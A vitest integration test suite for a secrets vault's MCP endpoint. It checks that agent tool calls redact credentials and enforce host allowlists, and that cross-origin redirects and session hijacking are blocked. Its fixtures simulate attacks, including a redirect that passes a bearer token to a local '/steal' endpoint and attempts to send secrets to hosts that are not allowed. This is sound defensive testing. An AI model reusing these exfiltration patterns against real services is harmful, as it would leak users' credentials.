/**
 * The MCP server over Streamable HTTP, driven by the real MCP client: mounted at /mcp in a real Vault
 * API process, and the standalone bin (MCP_TRANSPORT=httpStream). Agents, policies and secrets are
 * created through the API; a local HTTP server stands in for the third-party API.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { api, httpClient, startStandaloneMcp, startUpstream, startVaultServer, textOf, type Proc, type Upstream } from "../helpers.js";
import { agentWithPolicy, canary, humanWithVault, putSecret, type Agent } from "./fixtures.js";

let vault: Proc;
let upstream: Upstream;
let other: Upstream;
let owner: Awaited<ReturnType<typeof humanWithVault>>;
let agent: Agent;
const STRIPE = canary("stripe") + "+/=&?";
const LIMITED = canary("limited");
const HTTPS_ONLY = canary("httpsonly");
const MCP_HEADERS = () => ({ authorization: `Bearer ${agent.token}`, "x-vault-id": owner.vaultId });

const initialize = { jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "raw", version: "1" } } };
const postMcp = (url: string, headers: Record<string, string>, body: unknown = initialize) =>
  fetch(url, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream", ...headers }, body: JSON.stringify(body) });

beforeAll(async () => {
  vault = await startVaultServer();
  other = await startUpstream((_req, _body, res) => res.end("other host reached"));
  upstream = await startUpstream((req, body, res) => {
    const auth = req.headers.authorization ?? "";
    const value = auth.replace(/^Bearer /, "");
    if (req.url === "/away") return res.writeHead(302, { location: `${other.url}/steal?k=${encodeURIComponent(value)}` }).end();
    if (req.url === "/same") return res.writeHead(302, { location: "/echo?via=redirect" }).end();
    // A careless API that echoes the credential back in every form it can.
    res.writeHead(200, { "content-type": "application/json", "x-echo-key": value, "x-echo-b64": Buffer.from(value).toString("base64") });
    res.end(JSON.stringify({ you_sent: value, b64: Buffer.from(value).toString("base64"), url_form: encodeURIComponent(value), url: req.url, body }));
  });
  owner = await humanWithVault(vault.url);
  await putSecret(vault.url, owner.token, owner.vaultId, "api-keys/stripe", { value: STRIPE, metadata: { allowed_hosts: [`http://127.0.0.1:${upstream.port}`] } });
  await putSecret(vault.url, owner.token, owner.vaultId, "api-keys/limited", { value: LIMITED, max_access_count: 1 });
  await putSecret(vault.url, owner.token, owner.vaultId, "api-keys/https-only", { value: HTTPS_ONLY, metadata: { allowed_hosts: [`127.0.0.1:${upstream.port}`] } });
  agent = await agentWithPolicy(vault.url, owner.token, owner.vaultId, "api-keys/**", ["read"]);
});

afterAll(async () => {
  await vault?.stop();
  await upstream?.close();
  await other?.close();
});

describe("Vault API /mcp endpoint", () => {
  test("rejects a request without Authorization (401) or without/with a malformed X-Vault-ID (400), and an invalid token (401)", async () => {
    const url = `${vault.url}/mcp`;
    let r = await postMcp(url, { "x-vault-id": owner.vaultId });
    expect(r.status).toBe(401);
    expect(await r.text()).toContain("Authorization");
    r = await postMcp(url, { authorization: `Bearer ${agent.token}` });
    expect(r.status).toBe(400);
    expect(await r.text()).toContain("X-Vault-ID");
    r = await postMcp(url, { authorization: `Bearer ${agent.token}`, "x-vault-id": "not-a-uuid" });
    expect(r.status).toBe(400);
    r = await postMcp(url, { authorization: "Bearer eyJhbGciOiJFZERTQSJ9.e30.bm9wZQ", "x-vault-id": owner.vaultId });
    expect(r.status).toBe(401);
    r = await postMcp(url, { authorization: "Basic abc", "x-vault-id": owner.vaultId });
    expect(r.status).toBe(401);
  });

  test("an agent lists and reads a secret; the value is logged nowhere", async () => {
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    const listed = textOf(await c.client.callTool({ name: "list_secrets", arguments: {} }));
    expect(listed).toMatch(/^Found \d+ secret\(s\):/);
    expect(listed).toContain("- api-keys/stripe  (type: generic, version: 1, expires: never)");
    const got = await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/stripe" } });
    expect(JSON.parse(textOf(got))).toEqual({ path: "api-keys/stripe", type: "generic", version: 1, value: STRIPE });
    const missing = await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/nope" } });
    expect(missing.isError).toBe(true);
    expect(textOf(missing)).toBe("No secret found at path 'api-keys/nope'.");
    await c.close();
    expect(await vault.waitFor("secret accessed: api-keys/stripe")).not.toContain(STRIPE);
  });

  test("http_request: the upstream receives the real value, the model's raw JSON-RPC result never contains it", async () => {
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    const before = upstream.received.length;
    const res = await c.client.callTool({
      name: "http_request",
      arguments: {
        method: "POST",
        url: `${upstream.url}/echo?key={{secret:api-keys/stripe}}`,
        headers: { Authorization: "Bearer {{secret:api-keys/stripe}}", "content-type": "application/json" },
        body: '{"token":"{{secret:api-keys/stripe}}"}',
      },
    });
    expect(res.isError).toBeFalsy();
    const got = upstream.received[before];
    expect(got.headers.authorization).toBe(`Bearer ${STRIPE}`);
    expect(new URL(got.url, upstream.url).searchParams.get("key")).toBe(STRIPE);
    expect(JSON.parse(got.body)).toEqual({ token: STRIPE });

    const result = JSON.parse(textOf(res));
    expect(result.status).toBe(200);
    expect(result.redacted).toEqual(["api-keys/stripe"]);
    expect(JSON.parse(result.body).you_sent).toBe("[REDACTED:api-keys/stripe]");
    expect(result.headers["x-echo-key"]).toBe("[REDACTED:api-keys/stripe]");
    expect(result.headers["x-echo-b64"]).toBe("[REDACTED:api-keys/stripe]");

    const raw = await c.rawText();
    expect(raw).toContain("REDACTED:api-keys/stripe");
    for (const form of [STRIPE, Buffer.from(STRIPE).toString("base64"), encodeURIComponent(STRIPE), STRIPE.slice(0, 30)]) expect(raw).not.toContain(form);
    await c.close();
    expect(vault.output()).not.toContain(STRIPE);
    // The read behind the placeholder went through the API: audited as the agent, from the MCP client's address, without the value.
    const audit = await api(vault.url, "GET", `/v1/audit/events?actor_type=agent&action=secret.read&limit=1000`, { token: owner.token });
    expect(audit.status).toBe(200);
    const reads = audit.body.events.filter((e: { actor_id: string; details: { path?: string } }) => e.actor_id.includes(agent.id) && e.details.path === "api-keys/stripe");
    expect(reads.length).toBeGreaterThan(0);
    expect(reads[0].ip_address).toBe("127.0.0.1");
    expect(JSON.stringify(audit.body)).not.toContain(STRIPE);
  });

  test("http_request refuses hosts not allowed for the secret, plain http without an explicit http:// entry, other schemes, and requests without a secret", async () => {
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    const before = { up: upstream.received.length, other: other.received.length };
    const call = async (args: Record<string, unknown>) => {
      const r = await c.client.callTool({ name: "http_request", arguments: args });
      expect(r.isError).toBe(true);
      return textOf(r);
    };
    expect(await call({ method: "GET", url: `${other.url}/x`, headers: { Authorization: "Bearer {{secret:api-keys/stripe}}" } })).toMatch(
      /Host '127\.0\.0\.1:\d+' \(http\) is not allowed for secret 'api-keys\/stripe'/,
    );
    expect(await call({ method: "GET", url: `${upstream.url}/x`, headers: { Authorization: "Bearer {{secret:api-keys/https-only}}" } })).toContain(
      "is not allowed for secret 'api-keys/https-only'",
    );
    expect(await call({ method: "GET", url: `${upstream.url}/x`, headers: { Authorization: "Bearer {{secret:api-keys/limited}}" } })).toContain("(none set)");
    expect(await call({ method: "GET", url: "file:///tmp/data?k={{secret:api-keys/stripe}}" })).toContain("only http and https");
    expect(await call({ method: "GET", url: `http://{{secret:api-keys/stripe}}.example.com/` })).toContain("not allowed in the scheme, credentials, host or port");
    expect(await call({ method: "GET", url: `${upstream.url}/x` })).toContain("reference at least one secret");
    expect(await call({ method: "GET", url: `${upstream.url}/x`, headers: { Host: "other.example", Authorization: "Bearer {{secret:api-keys/stripe}}" } })).toContain("'Host' is set by oneclaw");
    expect(upstream.received.length).toBe(before.up);
    expect(other.received.length).toBe(before.other);
    // The refused attempts did not read the limited secret (metadata only): its single read is still there.
    const one = await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/limited" } });
    expect(JSON.parse(textOf(one)).value).toBe(LIMITED);
    await c.close();
  });

  test("http_request follows a same-origin redirect but refuses one to another host, which receives nothing", async () => {
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    const otherBefore = other.received.length;
    const away = await c.client.callTool({ name: "http_request", arguments: { method: "GET", url: `${upstream.url}/away`, headers: { Authorization: "Bearer {{secret:api-keys/stripe}}" } } });
    expect(away.isError).toBe(true);
    expect(textOf(away)).toContain("redirected (302) to another origin");
    expect(other.received.length).toBe(otherBefore);
    const same = await c.client.callTool({ name: "http_request", arguments: { method: "GET", url: `${upstream.url}/same`, headers: { Authorization: "Bearer {{secret:api-keys/stripe}}" } } });
    expect(same.isError).toBeFalsy();
    expect(JSON.parse(JSON.parse(textOf(same)).body).url).toBe("/echo?via=redirect");
    expect(await c.rawText()).not.toContain(STRIPE);
    await c.close();
  });

  test("a value the model saw through get_secret is redacted from other tools' output and refused as a literal in http_request", async () => {
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/stripe" } });
    const literal = await c.client.callTool({ name: "http_request", arguments: { method: "GET", url: `${other.url}/?k=x`, headers: { "x-k": STRIPE } } });
    expect(literal.isError).toBe(true);
    expect(textOf(literal)).not.toContain(STRIPE);
    const inspected = JSON.parse(textOf(await c.client.callTool({ name: "inspect_content", arguments: { content: `log line: ${STRIPE}` } })));
    expect(inspected.verdict).toBe("malicious");
    expect(inspected.threats).toContainEqual({ type: "secret_exposure", pattern: "session_secret", severity: "critical", match: "[REDACTED:api-keys/stripe]" });
    await c.close();
  });

  test("metadata reveal_to_model=false: get_secret and get_env_bundle refuse, http_request still works", async () => {
    const hidden = canary("hidden");
    await putSecret(vault.url, owner.token, owner.vaultId, "api-keys/hidden", {
      value: hidden,
      max_access_count: 1,
      metadata: { allowed_hosts: [`http://127.0.0.1:${upstream.port}`], reveal_to_model: false },
    });
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    for (const name of ["get_secret", "get_env_bundle"]) {
      const r = await c.client.callTool({ name, arguments: { path: "api-keys/hidden" } });
      expect(r.isError).toBe(true);
      expect(textOf(r)).toBe("The value of 'api-keys/hidden' is not revealed to the model (metadata.reveal_to_model is false). Use http_request with {{secret:api-keys/hidden}}.");
    }
    // The refusals read metadata only: the single allowed read is still available to http_request.
    const before = upstream.received.length;
    const r = await c.client.callTool({ name: "http_request", arguments: { method: "GET", url: `${upstream.url}/echo`, headers: { Authorization: "Bearer {{secret:api-keys/hidden}}" } } });
    expect(r.isError).toBeFalsy();
    expect(upstream.received[before].headers.authorization).toBe(`Bearer ${hidden}`);
    expect(await c.rawText()).not.toContain(hidden);
    await c.close();
  });

  test("describe_secret does not count an access; reads past max_access_count get the expired text", async () => {
    await putSecret(vault.url, owner.token, owner.vaultId, "api-keys/once", { value: canary("once"), max_access_count: 1 });
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    for (let i = 0; i < 3; i++) {
      const d = JSON.parse(textOf(await c.client.callTool({ name: "describe_secret", arguments: { path: "api-keys/once" } })));
      expect(d).toMatchObject({ path: "api-keys/once", type: "generic", version: 1, metadata: {}, expires_at: null });
      expect(d).not.toHaveProperty("value");
    }
    expect((await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/once" } })).isError).toBeFalsy();
    const gone = await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/once" } });
    expect(textOf(gone)).toBe("Secret at path 'api-keys/once' is expired or has exceeded its maximum access count.");
    await c.close();
  });

  test("the vault://secrets resource lists paths and metadata, never values", async () => {
    const c = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    const res = await c.client.readResource({ uri: "vault://secrets" });
    const text = (res.contents[0] as { text: string }).text;
    const parsed = JSON.parse(text);
    expect(parsed.secrets.map((s: { path: string }) => s.path)).toContain("api-keys/stripe");
    expect(text).not.toContain(STRIPE);
    await c.close();
  });

  test("two sessions are isolated: own vault, own fetched-value memory, a session id is bound to its credentials", async () => {
    const second = await humanWithVault(vault.url, "second");
    const secondValue = canary("second");
    await putSecret(vault.url, second.token, second.vaultId, "db/password", { value: secondValue });
    const agentB = await agentWithPolicy(vault.url, second.token, second.vaultId, "**", ["read"]);
    const a = await httpClient(`${vault.url}/mcp`, MCP_HEADERS());
    const b = await httpClient(`${vault.url}/mcp`, { authorization: `Bearer ${agentB.token}`, "x-vault-id": second.vaultId });
    await a.client.callTool({ name: "get_secret", arguments: { path: "api-keys/stripe" } });
    expect(textOf(await b.client.callTool({ name: "list_secrets", arguments: {} }))).toBe("Found 1 secret(s):\n- db/password  (type: generic, version: 1, expires: never)");
    // B cannot reach A's vault with its own token.
    const cross = await b.client.callTool({ name: "get_secret", arguments: { path: "api-keys/stripe" } });
    expect(cross.isError).toBe(true);
    // Only A remembers A's value.
    const inB = JSON.parse(textOf(await b.client.callTool({ name: "inspect_content", arguments: { content: `x ${STRIPE} y` } })));
    expect(inB.threats.filter((t: { type: string }) => t.type === "secret_exposure")).toEqual([]);
    const inA = JSON.parse(textOf(await a.client.callTool({ name: "inspect_content", arguments: { content: `x ${STRIPE} y` } })));
    expect(inA.threats.filter((t: { type: string }) => t.type === "secret_exposure")).toHaveLength(1);
    // A's session id with B's credentials is refused.
    const hijack = await postMcp(
      `${vault.url}/mcp`,
      { authorization: `Bearer ${agentB.token}`, "x-vault-id": second.vaultId, "mcp-session-id": a.transport.sessionId!, "mcp-protocol-version": "2025-06-18" },
      { jsonrpc: "2.0", id: 9, method: "tools/call", params: { name: "get_secret", arguments: { path: "api-keys/stripe" } } },
    );
    expect(hijack.status).toBe(403);
    expect(await hijack.text()).not.toContain(STRIPE);
    // A closed session is gone: its id answers 404 and a new initialize is needed.
    const sessionA = a.transport.sessionId!;
    await a.transport.terminateSession();
    const after = await postMcp(`${vault.url}/mcp`, { ...MCP_HEADERS(), "mcp-session-id": sessionA, "mcp-protocol-version": "2025-06-18" }, { jsonrpc: "2.0", id: 10, method: "tools/list" });
    expect(after.status).toBe(404);
    await a.close();
    await b.close();
  });
});

describe("standalone MCP server (MCP_TRANSPORT=httpStream)", () => {
  let mcp: Proc;
  beforeAll(async () => {
    mcp = await startStandaloneMcp(vault.url);
  });
  afterAll(async () => mcp?.stop());

  test("GET /health answers; /mcp requires Authorization and X-Vault-ID", async () => {
    const h = await fetch(`${mcp.url}/health`);
    expect(h.status).toBe(200);
    expect(await h.json()).toMatchObject({ status: "ok", service: "oneclaw-mcp" });
    expect((await postMcp(`${mcp.url}/mcp`, {})).status).toBe(401);
    expect((await postMcp(`${mcp.url}/mcp`, { authorization: `Bearer ${agent.apiKey}` })).status).toBe(400);
    const bad = await fetch(`${mcp.url}/mcp`, { method: "POST", headers: { "content-type": "application/json" }, body: "{not json" });
    expect(bad.status).toBe(400);
    const huge = await fetch(`${mcp.url}/mcp`, { method: "POST", headers: { "content-type": "application/json" }, body: `"${"x".repeat(6 * 1024 * 1024)}"` }).catch(() => undefined);
    // Either the 413 answer arrives or the server cuts the upload short; it never accepts it.
    if (huge) expect(huge.status).toBe(413);
    expect((await fetch(`${mcp.url}/nope`)).status).toBe(404);
    expect((await fetch(`${mcp.url}/mcp`, { method: "PUT" })).status).toBe(405);
    const noSession = await postMcp(`${mcp.url}/mcp`, { authorization: `Bearer ${agent.apiKey}`, "x-vault-id": owner.vaultId }, { jsonrpc: "2.0", id: 2, method: "tools/list" });
    expect(noSession.status).toBe(400);
    expect(await noSession.text()).toContain("initialize");
  });

  test("an ocv_ agent key as bearer: reads a secret and calls the upstream through http_request without the value reaching the model", async () => {
    const c = await httpClient(`${mcp.url}/mcp`, { authorization: `Bearer ${agent.apiKey}`, "x-vault-id": owner.vaultId });
    const got = JSON.parse(textOf(await c.client.callTool({ name: "get_secret", arguments: { path: "api-keys/stripe" } })));
    expect(got.value).toBe(STRIPE);
    const rawBefore = (await c.rawText()).length;
    const before = upstream.received.length;
    const res = await c.client.callTool({ name: "http_request", arguments: { method: "GET", url: `${upstream.url}/echo`, headers: { Authorization: "Bearer {{secret:api-keys/stripe}}" } } });
    expect(upstream.received[before].headers.authorization).toBe(`Bearer ${STRIPE}`);
    expect(JSON.parse(textOf(res)).redacted).toEqual(["api-keys/stripe"]);
    expect((await c.rawText()).slice(rawBefore)).not.toContain(STRIPE);
    await c.close();
    expect(await mcp.waitFor("secret accessed: api-keys/stripe")).not.toContain(STRIPE);
    expect(mcp.output()).not.toContain(agent.apiKey);
  });
});
